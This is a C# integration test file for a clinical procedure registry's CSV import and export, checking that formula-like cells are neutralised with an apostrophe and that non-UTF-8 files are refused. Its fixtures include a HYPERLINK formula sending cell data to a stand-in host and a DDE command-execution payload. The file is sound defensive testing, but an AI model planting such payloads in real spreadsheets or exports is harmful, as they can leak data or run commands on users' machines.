using System.Net;
using System.Text;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using ProcedureRegistry.IntegrationTests.Infrastructure;
using ProcedureRegistry.Web.Features.DataExchange;
using static ProcedureRegistry.IntegrationTests.Features.DataExchange.ImportExportCsvTests;

namespace ProcedureRegistry.IntegrationTests.Features.DataExchange;

/// <summary>
/// Issue 10, findings 7 and 12: cells a spreadsheet would run as formulas go out guarded and come back unchanged,
/// and a file that is not UTF-8 is refused with its line and column instead of being imported with U+FFFD.
/// </summary>
public sealed class CsvSafetyTests(AppFixture app) : IClassFixture<AppFixture>
{
    private static readonly string PatientHeader = string.Join(",", CsvFormats.PatientColumns);
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";

    [Theory]
    [InlineData("-Smith", "'-Smith")]
    [InlineData("=1+2", "'=1+2")]
    [InlineData("+33 6 12", "'+33 6 12")]
    [InlineData("@SUM(A1)", "'@SUM(A1)")]
    [InlineData("\tx", "'\tx")]
    [InlineData("\rx", "'\rx")]
    [InlineData("'=already", "''=already")]
    [InlineData("-1.5", "-1.5")]
    [InlineData("-12", "-12")]
    [InlineData("'plain", "'plain")]
    [InlineData("Smith-Jones", "Smith-Jones")]
    [InlineData("", "")]
    public void A_formula_cell_gets_one_apostrophe_and_reading_takes_exactly_that_one_off(string value, string written)
    {
        Assert.Equal(written, CsvFormulaGuard.Neutralise(value));
        Assert.Equal(value, CsvFormulaGuard.Restore(written));
    }

    [Fact]
    public async Task Formula_names_export_guarded_and_import_back_unchanged()
    {
        var fromId = await app.ClinicAsync("FRMA");
        var toId = await app.ClinicAsync("FRMB");
        var from = await app.ClinicianAsync("FRMA");
        var to = await app.ClinicianAsync("FRMB");
        var patients = PatientHeader + "\n"
            + "F-1,-Smith,\"" + Hyperlink.Replace("\"", "\"\"") + "\",1960-01-01,Female,,+33 6 12 34 56 78,false,None,Europe/Paris\n"
            + "F-2,@Home,''=kept,1970-05-05,Male,,,false,None,Europe/Paris\n";
        var procedures = string.Join(",", CsvFormats.ProcedureColumns) + "\n"
            + "X-1,F-1,DiagnosticBlock,2025-03-03T09:30:00+01:00,+Dr Plus,Fluoroscopy,true,None,8,T12-L1:Left,"
            + "MedialBranch,Lidocaine,2,0.5,Single,,,,,,,,,,,,true,,\"=cmd|' /C calc'!A0\"\n";
        var (status, page) = await ImportAsync(from, fromId, patients, procedures);
        Assert.True(status == HttpStatusCode.OK, page);

        var exported = await from.GetStringAsync($"/data/export/{fromId}/patients.csv");
        var exportedProcedures = await from.GetStringAsync($"/data/export/{fromId}/procedures.csv");
        Assert.Contains("F-1,'-Smith,\"'=HYPERLINK(", exported);
        Assert.Contains(",'+33 6 12 34 56 78,", exported);
        Assert.Contains("F-2,'@Home,''=kept,", exported);
        Assert.Contains(",'+Dr Plus,", exportedProcedures);
        Assert.Contains(",'=cmd|' /C calc'!A0\r\n", exportedProcedures);
        Assert.Contains(",0.5,", exportedProcedures); // numbers stay numbers

        (status, page) = await ImportAsync(to, toId, exported, exportedProcedures);
        Assert.True(status == HttpStatusCode.OK, page);
        await using var db = TestDatabases.Context(app.ConnectionString);
        var imported = await db.Patients.Where(p => p.ClinicId == toId).OrderBy(p => p.Mrn).ToListAsync();
        Assert.Equal(["-Smith", "@Home"], imported.Select(p => p.FamilyName));
        Assert.Equal([Hyperlink, "'=kept"], imported.Select(p => p.GivenName));
        Assert.Equal("+33 6 12 34 56 78", imported[0].Phone);
        var procedure = await db.Procedures.SingleAsync(p => p.ClinicId == toId);
        Assert.Equal("+Dr Plus", procedure.OperatorName);
        Assert.Equal("=cmd|' /C calc'!A0", procedure.Notes);
        Assert.Equal(exported, await to.GetStringAsync($"/data/export/{toId}/patients.csv"));
    }

    [Fact]
    public async Task The_report_CSV_guards_an_operator_name_that_is_a_formula()
    {
        var clinicId = await app.ClinicAsync("RFRM");
        await Reports.SyntheticRegistry.WriteAsync(app.ConnectionString, clinicId, patients: 10, idOffset: 400_000);
        await using (var connection = new Npgsql.NpgsqlConnection(app.ConnectionString))
        {
            await connection.OpenAsync();
            await Sql.ScalarAsync(connection, $"UPDATE procedures SET operator_name = '{Hyperlink.Replace("'", "''")}' WHERE clinic_id = {clinicId} AND kind = 'RfDenervation'");
        }

        var (report, _, _) = await app.Factory.Services.GetRequiredService<ProcedureRegistry.Web.Features.Reports.ReportComputation>()
            .ComputeAsync(new ProcedureRegistry.Web.Features.Reports.ReportFilters { ClinicIds = [clinicId] });

        var csv = report.ToCsv();
        Assert.Contains(",\"'=HYPERLINK(", csv);
        Assert.DoesNotContain(",\"=HYPERLINK(", csv);
        Assert.DoesNotContain(",=HYPERLINK(", csv);
    }

    [Fact]
    public async Task A_Latin_1_file_is_refused_with_its_file_line_and_column_and_nothing_is_written()
    {
        var clinicId = await app.ClinicAsync("LAT");
        var clinician = await app.ClinicianAsync("LAT");
        var text = PatientHeader + "\n"
            + "L-1,Martin,Anne,1960-01-01,Female,,,false,None,Europe/Paris\n"
            + "L-2,Lefèvre,Zoé,1961-02-02,Female,,,false,None,Europe/Paris\n";

        var (status, page) = await ImportBytesAsync(clinician, clinicId, Encoding.Latin1.GetBytes(text));

        Assert.Equal(HttpStatusCode.BadRequest, status);
        Assert.Contains("patients.csv line 3", page);
        Assert.Contains("column 8: the file is not valid UTF-8 (byte 0xE8)", page);
        Assert.DoesNotContain("\uFFFD", page);
        await using var db = TestDatabases.Context(app.ConnectionString);
        Assert.False(await db.Patients.AnyAsync(p => p.ClinicId == clinicId));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(4096)]
    public async Task The_UTF_8_check_finds_the_line_and_column_of_the_first_bad_byte_whatever_the_read_size(int readSize)
    {
        byte[] bytes = [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes("né,Zoë\r\nçà,"), 0xE9, (byte)'x', (byte)'\n'];
        var checking = new Utf8CheckingStream(new SlowStream(bytes, readSize));

        var text = await new StreamReader(checking, Encoding.UTF8).ReadToEndAsync();

        Assert.Equal((2, 4, (byte)0xE9), checking.Invalid);
        Assert.StartsWith("né,Zoë\r\nçà,", text); // the start of a character split across reads may already have gone on
        Assert.DoesNotContain("x", text);
        var valid = new Utf8CheckingStream(new SlowStream(Encoding.UTF8.GetBytes("a€😀\nb"), readSize));
        Assert.Equal("a€😀\nb", await new StreamReader(valid, Encoding.UTF8).ReadToEndAsync());
        Assert.Null(valid.Invalid);
        var truncated = new Utf8CheckingStream(new SlowStream([(byte)'a', 0xE2, 0x82], readSize));
        await new StreamReader(truncated, Encoding.UTF8).ReadToEndAsync();
        Assert.Equal((1, 2, (byte)0xE2), truncated.Invalid);
    }

    /// <summary>Hands out at most <c>readSize</c> bytes a read, so characters are split across reads.</summary>
    private sealed class SlowStream(byte[] bytes, int readSize) : MemoryStream(bytes)
    {
        public override int Read(byte[] buffer, int offset, int count) => base.Read(buffer, offset, Math.Min(count, readSize));

        public override ValueTask<int> ReadAsync(Memory<byte> buffer, CancellationToken cancellationToken = default) =>
            base.ReadAsync(buffer[..Math.Min(buffer.Length, readSize)], cancellationToken);
    }

    [Fact]
    public async Task A_UTF_8_file_with_a_byte_order_mark_imports_with_its_accents()
    {
        var clinicId = await app.ClinicAsync("BOM");
        var clinician = await app.ClinicianAsync("BOM");
        var text = PatientHeader + "\r\nB-1,Lefèvre,Zoé,1961-02-02,Female,,,false,None,Europe/Paris\r\n";

        var (status, page) = await ImportBytesAsync(clinician, clinicId, [.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(text)]);

        Assert.True(status == HttpStatusCode.OK, page);
        await using var db = TestDatabases.Context(app.ConnectionString);
        var patient = await db.Patients.SingleAsync(p => p.ClinicId == clinicId);
        Assert.Equal(("B-1", "Lefèvre", "Zoé"), (patient.Mrn, patient.FamilyName, patient.GivenName));
    }
}
